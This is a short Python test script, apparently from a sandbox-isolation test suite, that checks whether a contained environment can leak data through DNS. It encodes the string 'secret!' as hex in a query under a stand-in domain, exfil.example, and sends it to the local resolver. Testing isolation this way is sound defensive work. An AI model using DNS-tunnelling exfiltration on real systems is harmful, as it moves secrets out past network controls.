"""Data in names through the resolver that the cell does have: succeeds if a name below a foreign domain is answered."""

import socket

import dns_udp
import say


def attack(given):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.sendto(dns_udp.question("73656372657421.exfil.example"), ("127.0.0.1", 53))
        answer = sock.recv(512)
    code, count = answer[3] & 15, int.from_bytes(answer[6:8], "big")
    return code == 0 and count > 0, f"code {code}, {count} answers"


say.main("dns_through_the_door", attack, dns_udp.twin)
